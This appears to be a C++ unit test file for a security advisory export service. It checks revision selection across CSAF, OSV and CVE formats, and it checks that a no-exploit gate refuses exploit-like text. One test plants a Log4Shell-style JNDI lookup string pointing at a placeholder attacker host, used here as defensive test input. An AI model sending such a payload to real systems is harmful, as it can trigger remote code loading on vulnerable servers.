// Exports of published advisories from the store: only the newest public
// revision is served, and it passes the no-exploit gate again on its way
// out (a snapshot with exploit-like text is refused, naming the field).
#include <gtest/gtest.h>

#include "advisory_services_fixture.h"
#include "services/advisory_exports.h"

namespace loudong::services {
namespace {

class AdvisoryExports : public AdvisoryServicesTest {
 protected:
  Result<ExportDocument> get(const std::string& ref, ExportFormat f) {
    return export_public_advisory(*ctx_, ref, f, {"https://psirt.example.cn", "8254265b-2729-46b6-b9e3-3dfca2d5bfca"});
  }
};

TEST_P(AdvisoryExports, TheNewestPublicRevisionInEachFormat) {
  domain::Advisory a = sample(add_case("LD-2026-000001"), "LD-SA-2026-000001");
  a.publisher = "Acme PSIRT";  // this store has no host organisation to fall back on
  a.affected[0].purl = "pkg:npm/acme-router";  // an OSV ecosystem
  ASSERT_TRUE((a.id = insert(a).value()) > 0);
  EXPECT_EQ(get(a.ref, ExportFormat::csaf).error().code(), "not_found");  // a working copy is never exported
  ASSERT_TRUE(publish(a, 1, store::at(10)).ok());
  a.en.title = "Command injection in the diagnostics page (revised)";
  ASSERT_TRUE(publish(a, 2, store::at(20)).ok());

  auto csaf = get(a.ref, ExportFormat::csaf);
  ASSERT_TRUE(csaf.ok()) << csaf.error().message();
  auto doc = nlohmann::json::parse(csaf->body);
  EXPECT_EQ(doc["document"]["tracking"]["id"], a.ref);
  EXPECT_EQ(doc["document"]["tracking"]["version"], "2");
  EXPECT_EQ(csaf->filename, "ld-sa-2026-000001.csaf.json");
  auto osv = get(a.ref, ExportFormat::osv);
  ASSERT_TRUE(osv.ok()) << osv.error().message();
  EXPECT_EQ(nlohmann::json::parse(osv->body)["id"], "x_" + a.ref);
  auto cve = get(a.ref, ExportFormat::cve5);
  ASSERT_TRUE(cve.ok()) << cve.error().message();
  EXPECT_EQ(nlohmann::json::parse(cve->body)["cveMetadata"]["cveId"], "CVE-2026-12345");

  domain::Advisory amber = sample(add_case("LD-2026-000002"), "LD-SA-2026-000002");
  ASSERT_TRUE((amber.id = insert(amber).value()) > 0);
  ASSERT_TRUE(publish(amber, 1, store::at(30), "AMBER").ok());
  EXPECT_EQ(get(amber.ref, ExportFormat::csaf).error().code(), "not_found");
}

TEST_P(AdvisoryExports, ExploitLikeTextInThePublishedSnapshotIsRefusedNamingTheField) {
  domain::Advisory a = sample(add_case("LD-2026-000003"), "LD-SA-2026-000003");
  a.en.detection = "Send ${jndi:ldap://attacker.example/a} as the user agent.";
  ASSERT_TRUE((a.id = insert(a).value()) > 0);
  ASSERT_TRUE(publish(a, 1, store::at(10)).ok());
  for (auto f : {ExportFormat::csaf, ExportFormat::cve5, ExportFormat::osv}) {
    auto r = get(a.ref, f);
    ASSERT_FALSE(r.ok()) << name_of(f);
    EXPECT_EQ(r.error().code(), "publication_refused");
    EXPECT_EQ(r.error().allowed(), std::vector<std::string>{"no_exploit"});
    EXPECT_NE(r.error().message().find("en.detection"), std::string::npos) << r.error().message();
  }
}

INSTANTIATE_TEST_SUITE_P(Backends, AdvisoryExports, store::test::kBackends, store::test::backend_name);

}  // namespace
}  // namespace loudong::services
